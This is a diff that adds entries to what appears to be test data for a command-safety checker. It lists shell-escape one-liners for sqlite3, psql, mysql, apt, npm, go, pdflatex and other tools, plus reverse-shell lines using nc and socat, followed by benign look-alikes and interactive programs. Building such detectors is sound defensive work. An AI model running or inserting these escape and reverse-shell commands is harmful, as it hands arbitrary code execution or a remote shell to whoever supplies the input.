@@ -376,6 +376,54 @@ socat TCP:h:1 EXEC:_
 socat SYSTEM:_ -
 socat - stdio!!exec:_
 npm ci --node-options=--import=data:text/javascript,_
+sqlite3 -cmd .shell\tid x.db
+sqlite3 x.db .once\t|id
+sqlite3 x.db .import\t"|id"\tt
+sqlite3 x.db .once\t-e
+sqlite3 x.db .load\t./x.so
+sqlite3 x.db .excel
+duckdb -c .shell\tid
+psql -c \\echo\t\`id\`
+psql -c \\g\t|id
+psql -c \\copy\tt\tfrom\tprogram\t'id'
+psql -L |id
+mysql -e system\tid
+mysqlsh --py -e import\tos
+ssh -F /dev/stdin host
+ssh -I ./x.so host
+sftp -b - host
+apt-get -o DPkg::Pre-Invoke::=id update
+apt -oAPT::Update::Post-Invoke::=id update
+dpkg --pre-invoke=id -i x.deb
+rpm --eval %(id)
+node --import /dev/stdin x.js
+node --import=file:///dev/stdin x.js
+node -r /proc/self/fd/0 x.js
+python3 -m cProfile -m timeit id
+php php://stdin
+npm config set script-shell /x/y
+npm c set editor=x
+npm pkg set scripts.test=id
+npm pkg set --json scripts[test]=id
+npm run x --script-shell=_
+env npm_config_script-shell=x npm run x
+env npm_config_git=x npm ci
+env GOFLAGS=-toolexec=x go build
+gawk -W source=BEGIN{system("id")}
+sshpass -p x sh -c id
+systemd-run sh -c id
+tmux new-session id
+pdflatex \\write18{id}
+git filter-repo --commit-callback import\tos
+m4 -Dx=syscmd(id)
+yt-dlp --exec id x
+nix-shell --run id
+convert |id x.png
+crontab -
+git send-email --sendmail-cmd=id x
+git send-email --sendmail-cmd id x
+nc -e /bin/sh h 1
+socat - EXEC:sh
 awk BEGIN{system("id")}
 mawk {print|"sh"}
 gawk {"id"|getline;print}
@@ -609,6 +657,39 @@ nc -zv host 1
 socat TCP:h:1 STDIO
 npm run build --loglevel=error
 npm ci --node-options=--max-old-space-size=512
+sqlite3 x.db .separator\t|
+sqlite3 -cmd .timeout\t1000 x.db select\t1
+sqlite3 x.db .mode\tlist .separator\t"|" select\t1
+sqlite3 x.db .read\tx.sql
+sqlite3 x.db .output\tx.csv
+sqlite3 x.db .import\tx.csv\tt
+psql -c \\copy\tt\tto\t'x.csv'\tcsv
+psql -c select\tprogram\tfrom\tt
+psql -c \\d
+psql -c \\timing -c select\t1
+psql -o x.txt -c select\t1
+mysql -e select\t'\\\\e\tsystem'
+git commit -m fix:\ta|b\t!x
+git commit -m ext::x
+git commit -m !x
+git commit --message=system("id")
+git commit -am x
+ssh -o StrictHostKeyChecking=no host
+npm config get script-shell
+npm config set registry x
+npm pkg get scripts
+npm pkg set version=1
+npm version patch -m x
+apt-get -o Acquire::Retries=3 update
+node --import ./x.mjs x.js
+less +/a x
+convert a.png -resize 50% b.png
+curl -o x https://x
+go build ./...
+pdflatex x.tex
+jq .a|.b x
+grep a|b x
+gcc -o x x.c
 dc -f x.dc
 vim x
 `;
@@ -653,6 +734,10 @@ sudo bash
 busybox sh
 gdb ./prog
 sqlite3 x.db
+psql
+mysql x
+sftp h
+at now
 ed x
 m4
 dc
